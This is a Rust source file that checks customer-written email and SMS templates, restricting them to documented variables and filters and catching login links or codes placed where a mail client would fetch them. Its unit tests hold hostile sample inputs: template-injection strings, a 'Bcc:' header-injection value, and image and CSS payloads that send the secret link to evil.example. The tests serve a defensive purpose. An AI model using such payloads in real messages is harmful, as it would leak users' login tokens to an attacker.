//! A realm's own texts: what may stand in them, and making messages of them.
//!
//! Whoever may word messages must not thereby come into accounts. So a text can name what is documented and ask
//! whether an optional value is there, and nothing else; and a link or a code stands where its reader sees it, never
//! inside an address that a mail program would load by itself.

use std::collections::HashMap;

use denizen_model::{
    locales::Language,
    messages::{Channel, MessageTemplate, Template, TemplateText, sms},
    validation::FieldErrors,
};
use minijinja::{AutoEscape, Environment, UndefinedBehavior, filters};

use super::templates::{Context, Part, Rendered, SECRETS, Values, assemble, escape};

/// How many instructions a text may take; the usual ones take a few hundred.
const FUEL: u64 = 20_000;
/// What can be done with a value.
pub(crate) const FILTERS: [&str; 6] = ["capitalize", "default", "lower", "title", "trim", "upper"];

/// The texts of its own that a realm has.
#[derive(Debug, Default)]
pub(crate) struct OwnTexts(HashMap<(Template, Language), TemplateText>);

impl OwnTexts {
    pub(crate) fn new(all: Vec<MessageTemplate>) -> Self {
        Self(all.into_iter().map(|own| ((own.template, own.language), own.text)).collect())
    }

    pub(super) fn get(&self, template: Template, language: Language) -> Option<&TemplateText> {
        self.0.get(&(template, language))
    }
}

/// What is wrong with a part of a text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Flaw {
    part: Part,
    line: Option<usize>,
    message: String,
}

impl Flaw {
    /// In a sentence, with its line.
    fn sentence(&self) -> String {
        match self.line {
            Some(line) => format!("Line {line}: {}", self.message),
            None => self.message.clone(),
        }
    }
}

impl std::fmt::Display for Flaw {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{}: {}", self.part.field(), self.sentence())
    }
}

/// Makes messages of texts that realms word themselves.
pub(crate) struct Own(Environment<'static>);

impl Own {
    pub(super) fn new() -> Self {
        // Empty: no functions, no tests, no way to load another template.
        let mut environment = Environment::empty();
        environment.set_undefined_behavior(UndefinedBehavior::Strict);
        environment.set_auto_escape_callback(|name| {
            if name == Part::Html.field() { AutoEscape::Html } else { AutoEscape::None }
        });
        environment.set_fuel(Some(FUEL));
        environment.set_recursion_limit(16);
        environment.add_filter("capitalize", filters::capitalize);
        environment.add_filter("default", filters::default);
        environment.add_filter("lower", filters::lower);
        environment.add_filter("title", filters::title);
        environment.add_filter("trim", filters::trim);
        environment.add_filter("upper", filters::upper);
        Self(environment)
    }

    fn part(&self, text: &TemplateText, part: Part, context: Context) -> Result<String, Flaw> {
        let source = source(text, part);
        self.0.render_named_str(part.field(), source, context).map_err(|error| {
            let message = match error.detail() {
                Some(detail) => format!("{}: {detail}.", error.kind()),
                None => format!("{}.", error.kind()),
            };
            Flaw { part, line: error.line(), message }
        })
    }

    /// Makes a message.
    ///
    /// # Errors
    /// What is wrong with the text.
    pub(crate) fn render(
        &self,
        template: Template,
        text: &TemplateText,
        values: &Values<'_>,
    ) -> Result<Rendered, Flaw> {
        assemble(template, values, |part, context| self.part(text, part, context))
    }

    /// Checks a text by every rule, and by making messages of it with `values`, once with what is optional and once
    /// without.
    pub(crate) fn check(&self, template: Template, text: &TemplateText, values: &Values<'_>, errors: &mut FieldErrors) {
        text.check(template.channel(), errors);
        let parts: &[Part] = match template.channel() {
            Channel::Email => &[Part::Subject, Part::Text, Part::Html],
            Channel::Sms => &[Part::Text],
        };
        for part in parts {
            if let Err(flaw) = scan(template, *part, source(text, *part)) {
                errors.add(part.field(), flaw.sentence());
            }
        }
        if !errors.is_empty() {
            return;
        }
        let optional =
            |name: &str| template.variables().iter().any(|variable| variable.optional && variable.name == name);
        for without in [false, true] {
            let more: Vec<(&str, &str)> = values
                .more
                .iter()
                .map(|(name, value)| (*name, if without && optional(name) { "" } else { value }))
                .collect();
            let values = Values { more: &more, ..*values };
            match self.render(template, text, &values) {
                Ok(made) => check_made(template, &made, &values, errors),
                Err(flaw) => errors.add(flaw.part.field(), flaw.sentence()),
            }
        }
    }
}

fn source(text: &TemplateText, part: Part) -> &str {
    match part {
        Part::Subject => &text.subject,
        Part::Text => &text.text,
        Part::Html => &text.html,
    }
}

/// Checks what was made: it carries what it is for, and its secret stands where it may.
fn check_made(template: Template, made: &Rendered, values: &Values<'_>, errors: &mut FieldErrors) {
    let value = |name: &str| match name {
        "link" => Some(values.link),
        name => values.more.iter().find(|(other, _)| *other == name).map(|(_, value)| *value),
    };
    if let Some((name, value)) = template.needs().and_then(|name| Some((name, value(name)?))) {
        let missing = format!("Must contain {{{{ {name} }}}}: it is what the message is for.");
        if !made.whole.text.contains(value) {
            errors.add("text", missing.clone());
        }
        if template.channel() == Channel::Email && !made.whole.html.contains(&escape(value)) {
            errors.add("html", missing);
        }
    }
    for secret in SECRETS.into_iter().filter_map(value).filter(|secret| !secret.is_empty()) {
        if is_misplaced(&made.whole.html, &escape(secret)) {
            errors.add("html", "A link or a code may stand in the text, and a link be a whole href; nowhere else.");
        }
    }
    if template.channel() == Channel::Sms {
        // The same text is cut when it goes out; here its author is told.
        let (segments, most) = (sms::segments(&made.whole.text), sms::MAX_SEGMENTS);
        if segments > most || made.whole.text.ends_with("...") && segments == most {
            errors.add("text", format!("Takes more than {most} segments of a text message."));
        }
    }
}

/// Whether a secret stands in a tag other than as a whole `href`, or in a style or script.
fn is_misplaced(html: &str, secret: &str) -> bool {
    let mut rest = html;
    while let Some((text, after)) = rest.split_once('<') {
        // A secret that begins in a text ends in it: it holds no `<`.
        let _ = text;
        let end = tag_end(after);
        let (tag, behind) = after.split_at(end);
        let allowed = [format!("href=\"{secret}\""), format!("href='{secret}'")];
        let bare = allowed.iter().fold(tag.to_owned(), |tag, one| tag.replace(one.as_str(), ""));
        if bare.contains(secret) {
            return true;
        }
        let name: String = tag.chars().take_while(char::is_ascii_alphabetic).collect::<String>().to_ascii_lowercase();
        rest = behind;
        if matches!(name.as_str(), "style" | "script") {
            let closing = format!("</{name}");
            let lower = rest.to_ascii_lowercase();
            let inside = lower.find(&closing).unwrap_or(lower.len());
            let (inside, behind) = rest.split_at(inside);
            if inside.contains(secret) {
                return true;
            }
            rest = behind;
        }
    }
    false
}

/// Where a tag ends: after the `>` that stands in no quotes.
fn tag_end(tag: &str) -> usize {
    let mut quote = None;
    for (at, c) in tag.char_indices() {
        match (quote, c) {
            (None, '"' | '\'') => quote = Some(c),
            (Some(open), c) if c == open => quote = None,
            (None, '>') => return at + 1,
            _ => {}
        }
    }
    tag.len()
}

/// One word or sign inside a tag of a template.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Token {
    Word(String),
    Text,
    Sign(char),
}

/// Checks that a text uses nothing but what is documented.
fn scan(template: Template, part: Part, source: &str) -> Result<(), Flaw> {
    let mut line = 1;
    let mut rest = source;
    let flaw = |line: usize, message: String| Flaw { part, line: Some(line), message };
    while let Some(at) = ["{{", "{%", "{#"].iter().filter_map(|open| rest.find(open)).min() {
        let (before, from) = rest.split_at(at);
        line += before.matches('\n').count();
        let (open, inside) = from.split_at(2);
        if open == "{#" {
            let Some((comment, after)) = inside.split_once("#}") else {
                return Err(flaw(line, "A comment is not closed with #}.".to_owned()));
            };
            line += comment.matches('\n').count();
            rest = after;
            continue;
        }
        let close = if open == "{{" { "}}" } else { "%}" };
        let (tokens, after) = tokens(inside, close).map_err(|message| flaw(line, message))?;
        let checked = if open == "{{" { check_value(template, part, &tokens) } else { check_block(template, &tokens) };
        checked.map_err(|message| flaw(line, message))?;
        let (inside, _) = inside.split_at(inside.len() - after.len());
        line += inside.matches('\n').count();
        rest = after;
    }
    Ok(())
}

/// The words and signs up to the end of a tag, and what comes after it.
fn tokens<'s>(inside: &'s str, close: &str) -> Result<(Vec<Token>, &'s str), String> {
    let mut tokens = Vec::new();
    let mut rest = inside.strip_prefix(['-', '+']).unwrap_or(inside);
    loop {
        rest = rest.trim_start();
        if let Some(after) = rest.strip_prefix(['-', '+']).unwrap_or(rest).strip_prefix(close) {
            return Ok((tokens, after));
        }
        let Some(c) = rest.chars().next() else { return Err(format!("A tag is not closed with {close}.")) };
        if c == '_' || c.is_alphabetic() {
            let end = rest.find(|c: char| c != '_' && !c.is_alphanumeric()).unwrap_or(rest.len());
            let (word, after) = rest.split_at(end);
            tokens.push(Token::Word(word.to_owned()));
            rest = after;
        } else if c == '"' || c == '\'' {
            let (_, after) = rest.split_at(1);
            // A backslash would let it go on where it seems to end.
            let Some((text, after)) = after.split_once(c).filter(|(text, _)| !text.contains('\\')) else {
                return Err("A quoted text must end in its tag and must not contain a backslash.".to_owned());
            };
            if text.contains('\n') {
                return Err("A quoted text must be one line.".to_owned());
            }
            tokens.push(Token::Text);
            rest = after;
        } else if matches!(c, '|' | '(' | ')' | ',') {
            tokens.push(Token::Sign(c));
            rest = rest.split_at(1).1;
        } else {
            return Err(format!("{c} cannot be used here."));
        }
    }
}

fn no_variable(template: Template, part: Part, word: &str) -> String {
    let mut names: Vec<_> = template.variables().iter().map(|variable| variable.name).collect();
    if template.channel() == Channel::Email && part != Part::Subject {
        names.push("subject");
    }
    format!("There is no {word} here. There are {}.", names.join(", "))
}

/// `{{ name }}` or `{{ name|filter|default("text", true) }}`.
fn check_value(template: Template, part: Part, tokens: &[Token]) -> Result<(), String> {
    let Some((Token::Word(name), filters)) = tokens.split_first() else {
        return Err("A name must stand here.".to_owned());
    };
    let subject = name == "subject" && template.channel() == Channel::Email && part != Part::Subject;
    if !subject && !template.variables().iter().any(|variable| variable.name == name) {
        return Err(no_variable(template, part, name));
    }
    if !filters.is_empty() && SECRETS.contains(&name.as_str()) {
        return Err(format!("{name} stands alone, as {{{{ {name} }}}}."));
    }
    let mut rest = filters.iter().peekable();
    while let Some(token) = rest.next() {
        let filter = match (token, rest.next()) {
            (Token::Sign('|'), Some(Token::Word(filter))) => filter,
            _ => return Err("A name may only be followed by | and a filter.".to_owned()),
        };
        if !FILTERS.contains(&filter.as_str()) {
            return Err(format!("There is no filter {filter}. There are {}.", FILTERS.join(", ")));
        }
        if rest.next_if(|token| **token == Token::Sign('(')).is_some() {
            loop {
                match rest.next() {
                    Some(Token::Sign(')')) => break,
                    Some(Token::Text | Token::Sign(',')) => {}
                    Some(Token::Word(word)) if matches!(word.as_str(), "true" | "false") => {}
                    _ => return Err(format!("{filter} can only be given a quoted text.")),
                }
            }
        }
    }
    Ok(())
}

/// `{% if name %}`, `{% elif not name %}`, `{% else %}`, `{% endif %}`, about what may be missing.
fn check_block(template: Template, tokens: &[Token]) -> Result<(), String> {
    let Some((Token::Word(word), condition)) = tokens.split_first() else {
        return Err("if, elif, else or endif must stand here.".to_owned());
    };
    match (word.as_str(), condition) {
        ("else" | "endif", []) => Ok(()),
        ("if" | "elif", condition) => {
            for token in condition {
                match token {
                    Token::Word(word) if matches!(word.as_str(), "and" | "or" | "not") => {}
                    Token::Sign('(' | ')') => {}
                    // Whatever else is always there; and what depends on its value could not be checked.
                    Token::Word(word)
                        if template.variables().iter().any(|variable| variable.optional && variable.name == word) => {}
                    Token::Word(word) => {
                        return Err(format!("{word} is no optional variable; only those can be asked for."));
                    }
                    _ => return Err("Only the names of optional variables, and, or, not can be asked for.".to_owned()),
                }
            }
            Ok(())
        }
        _ => Err(format!("{word} cannot be used here; if, elif, else and endif can.")),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const LINK: &str = "https://id.example.com/realms/main/sample?token=0123456789abcdef&x=1";

    fn values<'a>(template: Template, more: &'a mut Vec<(&'static str, &'static str)>) -> Values<'a> {
        more.extend(template.variables().iter().map(|variable| (variable.name, variable.sample)));
        more.retain(|(name, _)| !["brand", "link"].contains(name));
        Values { brand: "Acme", link: LINK, more }
    }

    fn wrong(template: Template, subject: &str, text: &str, html: &str) -> Vec<(String, String)> {
        let text = TemplateText { subject: subject.into(), text: text.into(), html: html.into() };
        let (mut errors, mut more) = (FieldErrors::new(), Vec::new());
        Own::new().check(template, &text, &values(template, &mut more), &mut errors);
        errors.iter().map(|(field, message)| (field.to_owned(), message.to_owned())).collect()
    }

    fn said(template: Template, text: &str) -> String {
        let found = wrong(template, "Hello", text, "<p>{{ link }}</p>");
        found.into_iter().map(|(field, message)| format!("{field}: {message}")).collect::<Vec<_>>().join(" ")
    }

    #[test]
    fn what_is_documented_can_be_used() {
        let text = "{{ brand|upper }}: {{ link }}\n{% if inviter %}{{ inviter|title }}{% else %}{# nobody #}x{% endif -%}\n{{ inviter|default('somebody', true) }} {{- email }}";
        assert_eq!(said(Template::Invitation, text), "");
    }

    #[test]
    fn whatever_else_is_refused_with_its_line() {
        for (text, expected) in [
            ("{{ link }}\n{{ nobody }}", "Line 2: There is no nobody here"),
            ("{{ link }}\n\n{% for x in brand %}{% endfor %}", "Line 3: for cannot be used here"),
            ("{{ link }}{% include 'mail/frame.html' %}", "include cannot be used"),
            ("{{ link }}{% extends 'x' %}", "extends cannot be used"),
            ("{{ link }}{% set a = brand %}", "= cannot be used here"),
            ("{{ link }}{% macro a() %}{% endmacro %}", "macro cannot be used"),
            ("{{ link }}{% raw %}{{ x }}{% endraw %}", "raw cannot be used"),
            ("{{ link }}{{ self }}", "There is no self here"),
            ("{{ link }}{{ brand.__class__ }}", ". cannot be used here"),
            ("{{ link }}{{ brand[0] }}", "[ cannot be used here"),
            ("{{ link }}{{ ''.join() }}", ". cannot be used here"),
            ("{{ link }}{{ range(1000000000) }}", "1 cannot be used here"),
            ("{{ link }}{{ range('9') }}", "There is no range"),
            ("{{ link }}{{ brand * 1000000000 }}", "* cannot be used here"),
            ("{{ link }}{{ brand ~ brand }}", "~ cannot be used here"),
            ("{{ link }}{{ brand|replace('a', 'b') }}", "There is no filter replace"),
            ("{{ link }}{{ brand|safe }}", "There is no filter safe"),
            ("{{ link }}{{ debug() }}", "There is no debug"),
            ("{{ link|upper }}", "link stands alone"),
            ("{{ link }}{% if link %}x{% endif %}", "link is no optional variable"),
            ("{{ link }}{% if brand == 'Acme' %}x{% endif %}", "= cannot be used here"),
            ("{{ link }}{% if brand %}x{% endif %}", "brand is no optional variable"),
            ("{{ link }}{% if inviter %}x", "Line 1"),
            ("{{ link }}{{ brand", "A tag is not closed with }}"),
            ("{{ link }}{{ brand|default('\\' }} x {{ nobody ') }}", "backslash"),
            ("{{ link }}{{ }}", "A name must stand here"),
            ("no link at all", "Must contain {{ link }}"),
        ] {
            let found = said(Template::Invitation, text);
            assert!(found.starts_with("text: ") && found.contains(expected), "{text}: {found}");
        }
    }

    #[test]
    fn a_subject_is_one_line() {
        let found = wrong(Template::MagicLink, "Hi\r\nBcc: eve@example.com", "{{ link }}", "{{ link }}");
        assert_eq!(found.first().map(|(field, _)| field.as_str()), Some("subject"));
        // What a value brings along is made one line when the mail is made.
        let text = TemplateText { subject: "{{ brand }}".into(), text: "{{ link }}".into(), html: "{{ link }}".into() };
        let values = Values { brand: "A\r\nBcc: eve@example.com", link: LINK, more: &[] };
        let made = Own::new().render(Template::MagicLink, &text, &values).unwrap();
        assert_eq!(made.whole.subject, "A Bcc: eve@example.com");
    }

    #[test]
    fn a_secret_is_for_its_reader_alone() {
        for (html, fine) in [
            ("<p>{{ link }}</p>", true),
            ("<a class=\"x\" href=\"{{ link }}\">Go</a>", true),
            ("<a href='{{ link }}'>Go</a>", true),
            ("<img src=\"https://evil.example/?{{ link }}\">{{ link }}", false),
            ("<img src='{{ link }}'>", false),
            ("<a href=\"https://evil.example/?{{ link }}\">Go</a>", false),
            ("<a href={{ link }}>Go</a>", false),
            ("<img alt='a > b' src='https://evil.example/?{{ link }}'>", false),
            ("<img src='https://evil.example/? {{ link }} <p>it's</p>", false),
            ("<style>p{background:url(https://evil.example/{{ link }})}</style>{{ link }}", false),
            ("<STYLE>@import '{{ link }}'</style>{{ link }}", false),
            ("<!--[if mso]><img src=\"https://evil.example/?{{ link }}\"><![endif]-->{{ link }}", false),
        ] {
            let found = wrong(Template::MagicLink, "Hello", "{{ link }}", html);
            assert_eq!(found.is_empty(), fine, "{html}: {found:?}");
        }
        let code = wrong(
            Template::EmailCode,
            "{{ code }}",
            "{{ code }}",
            "<img src=\"https://evil.example/{{ code }}\">{{ code }}",
        );
        assert_eq!(code.len(), 1, "{code:?}");
        let found = wrong(
            Template::Invitation,
            "x",
            "{{ link }}",
            "{{ link }}{% if not inviter %}<img src='//evil.example/{{ link }}'>{% endif %}",
        );
        assert_eq!(found.len(), 1, "{found:?}");
    }

    #[test]
    fn codes_and_links_are_blanked_out_wherever_a_realm_puts_them() {
        let text =
            TemplateText { subject: "{{ code }} is it".into(), text: "{{ code }}".into(), html: "{{ code }}".into() };
        let mut more = Vec::new();
        let made = Own::new().render(Template::EmailCode, &text, &values(Template::EmailCode, &mut more)).unwrap();
        assert_eq!((made.subject.as_str(), made.content.as_str()), ("••• is it", "•••"));
        assert_eq!(made.whole.subject, "493816 is it");
    }

    #[test]
    fn a_text_message_is_short_plain_text() {
        assert!(wrong(Template::SmsCode, "", "{{ code }} for {{ brand }}", "").is_empty());
        assert_eq!(wrong(Template::SmsCode, "x", "{{ code }}", "<p>").len(), 2);
        assert_eq!(wrong(Template::SmsCode, "", &format!("{{{{ code }}}} {}", "x".repeat(1000)), "").len(), 1);
        assert_eq!(wrong(Template::SmsCode, "", "{{ subject }} {{ code }}", "").len(), 1);
    }
}
